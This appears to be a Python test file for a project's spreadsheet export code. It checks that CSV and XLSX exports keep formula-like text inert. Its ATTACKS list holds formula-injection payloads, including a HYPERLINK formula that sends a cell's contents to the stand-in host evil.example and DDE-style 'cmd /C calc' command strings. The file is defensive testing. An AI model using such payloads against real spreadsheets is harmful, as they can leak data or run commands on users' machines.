"""No cell of an export can run: text that a spreadsheet would read as a formula stays text."""

import csv
import datetime
import io

import openpyxl
import pytest

from khuyencong.core.spreadsheets import CsvLines, Workbook, csv_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_quotes_text_that_starts_like_a_formula(text):
    assert csv_cell(text) == "'" + text
    line = CsvLines(bom=False).row(["Mây tre đan", text, 12, -5, None])
    assert next(csv.reader(io.StringIO(line))) == ["Mây tre đan", "'" + text, "12", "-5", ""]


def test_csv_leaves_ordinary_values_alone():
    assert csv_cell("Cơ sở Gốm sứ") == "Cơ sở Gốm sứ"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""
    assert csv_cell(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    output = io.BytesIO()
    book = Workbook(output)
    sheet = book.add_worksheet("Thử")
    bold = book.add_format({"bold": True})
    book.write_row(sheet, 0, 0, ["=Tên", "Số"], bold)
    for row, text in enumerate(ATTACKS, start=1):
        book.write(sheet, row, 0, text)
        book.write(sheet, row, 1, -row * 1_000_000)
    book.write(sheet, 20, 0, datetime.date(2026, 3, 1))
    book.close()
    loaded = openpyxl.load_workbook(io.BytesIO(output.getvalue()))["Thử"]
    assert loaded["A1"].data_type == "s" and loaded["A1"].value == "=Tên"
    for row, text in enumerate(ATTACKS, start=1):
        cell = loaded.cell(row=row + 1, column=1)
        assert cell.data_type == "s", (text, cell.data_type)  # "f" would be a live formula
        assert cell.value in (text, text.replace("\r", "_x000D_"))  # openpyxl keeps CR escaped
        assert cell.quotePrefix  # Excel's own "this is text" mark: stays text when edited
        number = loaded.cell(row=row + 1, column=2)
        assert number.data_type == "n" and number.value == -row * 1_000_000
    assert loaded["A21"].value == datetime.datetime(2026, 3, 1)
